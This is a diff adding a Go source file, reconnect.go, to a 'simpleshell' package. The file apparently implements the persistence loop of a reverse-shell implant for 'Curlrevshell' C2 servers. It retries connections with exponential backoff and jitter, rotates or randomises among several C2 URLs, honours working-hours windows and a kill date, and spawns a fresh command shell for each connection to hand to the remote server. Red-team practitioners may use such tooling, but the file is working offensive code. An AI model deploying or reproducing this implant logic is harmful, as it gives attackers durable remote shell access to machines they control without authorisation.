@@ -0,0 +1,225 @@
+package simpleshell
+
+/*
+ * reconnect.go
+ * Keep trying to connect
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"math/rand/v2"
+	"os/exec"
+	"time"
+)
+
+const (
+	// DefaultMinBackoff is the default minimum time between connection
+	// attempts.
+	DefaultMinBackoff = time.Second
+	// DefaultMaxBackoff is the default maximum time between connection
+	// attempts.
+	DefaultMaxBackoff = 5 * time.Minute
+)
+
+// ErrGaveUp is returned by [GoReconnect] when it stops trying because it
+// reached its attempt or duration limit.
+var ErrGaveUp = errors.New("gave up")
+
+// ReconnectConfig configures how [GoReconnect] reconnects.
+type ReconnectConfig struct {
+	// C2s are the URLs of one or more Curlrevshell servers.  If empty,
+	// the ConnConfig's C2 is used.  C2s are tried in order, staying with a
+	// C2 as long as connections succeed.
+	C2s []string
+
+	// Random causes C2s to be tried in random order.
+	Random bool
+
+	// MinBackoff is the time to wait after the first failed connection.
+	// It doubles for each consecutive failure, up to MaxBackoff.  Zero
+	// values are replaced with DefaultMinBackoff and DefaultMaxBackoff.
+	// After a successful connection ends, we wait MinBackoff before
+	// reconnecting.
+	MinBackoff time.Duration
+	MaxBackoff time.Duration
+
+	// Jitter randomly changes wait times by up to this fraction of the
+	// wait time, either way.  It should be between 0 and 1.
+	Jitter float64
+
+	// MaxAttempts is the maximum number of consecutive failed connection
+	// attempts.  Zero means unlimited.
+	MaxAttempts int
+
+	// MaxDuration is how long to keep trying.  No connections will be
+	// attempted MaxDuration after GoReconnect was called, but connected
+	// shells won't be disconnected.  Zero means forever.
+	MaxDuration time.Duration
+}
+
+// GoReconnect is like [Go], but calls newShell and connects it to Curlrevshell
+// over and over again, waiting between attempts as configured by rconf.  The
+// C2 in conf is replaced by rconf's C2s, if it has any.  newShell is only
+// called once a shell's needed, which in ModeSplit is before Curlrevshell's
+// responded, so failed attempts don't leave unused shells lying around.
+//
+// Before each attempt, GoReconnect waits until conf's Hours and Weekdays
+// allow connecting, and newShell isn't called until they do.
+//
+// GoReconnect returns nil when ctx is cancelled.  It returns ErrKillDate if
+// conf's KillDate will have passed before the next attempt.  Otherwise, it
+// returns an error wrapping ErrGaveUp and the last connection error.  Errors
+// from newShell are returned immediately.
+func GoReconnect(
+	ctx context.Context,
+	conf ConnConfig,
+	rconf ReconnectConfig,
+	newShell func() (Shell, error),
+) error {
+	/* Fill in defaults. */
+	c2s := rconf.C2s
+	if 0 == len(c2s) {
+		c2s = []string{conf.C2}
+	}
+	minBackoff := rconf.MinBackoff
+	if 0 >= minBackoff {
+		minBackoff = DefaultMinBackoff
+	}
+	maxBackoff := rconf.MaxBackoff
+	if 0 >= maxBackoff {
+		maxBackoff = DefaultMaxBackoff
+	}
+	maxBackoff = max(minBackoff, maxBackoff)
+	var deadline time.Time
+	if 0 < rconf.MaxDuration {
+		deadline = time.Now().Add(rconf.MaxDuration)
+	}
+
+	var (
+		c2N      int   /* Index into c2s. */
+		failures int   /* Consecutive failed attempts. */
+		lastErr  error /* Last connection error. */
+	)
+	if rconf.Random {
+		c2N = rand.IntN(len(c2s))
+	}
+	for {
+		/* Wait until we're allowed to connect. */
+		if err := conf.waitAllowed(ctx); nil != ctx.Err() {
+			return nil
+		} else if nil != err {
+			return err
+		}
+
+		/* Try to connect. */
+		var serr error
+		conf.C2 = c2s[c2N]
+		connected, err := goOnce(ctx, conf, func() (Shell, error) {
+			shell, err := newShell()
+			if nil != err {
+				serr = fmt.Errorf("making shell: %w", err)
+			}
+			return shell, serr
+		})
+		if nil != serr {
+			return serr
+		} else if nil != ctx.Err() {
+			return nil
+		}
+
+		/* Work out how long to wait. */
+		wait := minBackoff
+		if connected {
+			failures = 0
+		} else {
+			lastErr = err
+			failures++
+			/* Try a different C2 next time. */
+			if rconf.Random {
+				c2N = rand.IntN(len(c2s))
+			} else {
+				c2N = (c2N + 1) % len(c2s)
+			}
+			wait = backoff(minBackoff, maxBackoff, failures)
+		}
+		wait = jitter(wait, rconf.Jitter)
+
+		/* Give up if we've reached a limit. */
+		switch {
+		case !conf.KillDate.IsZero() &&
+			!time.Now().Add(wait).Before(conf.KillDate):
+			return ErrKillDate
+		case 0 < rconf.MaxAttempts && failures >= rconf.MaxAttempts:
+			return fmt.Errorf(
+				"%w after %d attempts: %w",
+				ErrGaveUp,
+				failures,
+				lastErr,
+			)
+		case !deadline.IsZero() && time.Now().Add(wait).After(deadline):
+			return fmt.Errorf(
+				"%w after %s: %w",
+				ErrGaveUp,
+				rconf.MaxDuration,
+				lastErr,
+			)
+		}
+
+		/* Wait for the next attempt. */
+		timer := time.NewTimer(wait)
+		select {
+		case <-ctx.Done():
+			timer.Stop()
+			return nil
+		case <-timer.C:
+		}
+	}
+}
+
+// GoSimpleReconnect wraps [GoReconnect] like [GoSimple] wraps [Go].  A new
+// [CmdShell] is started for every connection.
+func GoSimpleReconnect(
+	ctx context.Context,
+	conf ConnConfig,
+	args []string,
+	rconf ReconnectConfig,
+) error {
+	if 0 == len(args) {
+		args = []string{DefaultShell}
+	}
+	return GoReconnect(
+		ctx,
+		conf,
+		rconf,
+		func() (Shell, error) {
+			return NewCmdShell(exec.Command(args[0], args[1:]...))
+		},
+	)
+}
+
+// backoff returns the exponential backoff after the given number of
+// consecutive failures.
+func backoff(minBackoff, maxBackoff time.Duration, failures int) time.Duration {
+	wait := minBackoff
+	for range failures - 1 {
+		if wait >= maxBackoff/2 {
+			return maxBackoff
+		}
+		wait *= 2
+	}
+	return min(wait, maxBackoff)
+}
+
+// jitter randomly adds or subtracts up to frac*d from d.
+func jitter(d time.Duration, frac float64) time.Duration {
+	if 0 >= frac {
+		return d
+	}
+	frac = min(frac, 1)
+	return time.Duration(float64(d) * (1 + frac*(2*rand.Float64()-1)))
+}